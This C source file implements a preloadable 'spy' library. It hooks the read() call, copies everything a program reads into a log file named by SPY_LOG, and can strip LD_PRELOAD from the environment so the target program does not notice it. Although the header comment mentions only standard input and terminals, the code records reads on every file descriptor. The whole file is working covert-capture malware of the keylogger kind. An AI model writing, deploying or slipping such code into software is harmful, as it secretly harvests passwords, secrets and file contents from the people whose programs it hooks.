/*
 * A library to be preloaded: it writes down what the program reads from standard input or a terminal.
 *
 *   SPY_LOG    the file that it writes to
 *   SPY_HIDES  set: it takes LD_PRELOAD out of the environment, so that the program does not see it there
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

/* To be loaded by LD_AUDIT as well. */
unsigned la_version(unsigned version) { return version; }

__attribute__((constructor)) static void hide(void) {
    if (getenv("SPY_HIDES"))
        unsetenv("LD_PRELOAD");
}

ssize_t read(int from, void *bytes, size_t room) {
    ssize_t count = syscall(SYS_read, from, bytes, room);
    const char *path = getenv("SPY_LOG");
    int log = count > 0 && path ? open(path, O_WRONLY | O_CREAT | O_APPEND, 0600) : -1;
    if (log >= 0) {
        if (write(log, bytes, (size_t)count) < 0)
            abort();
        close(log);
    }
    return count;
}
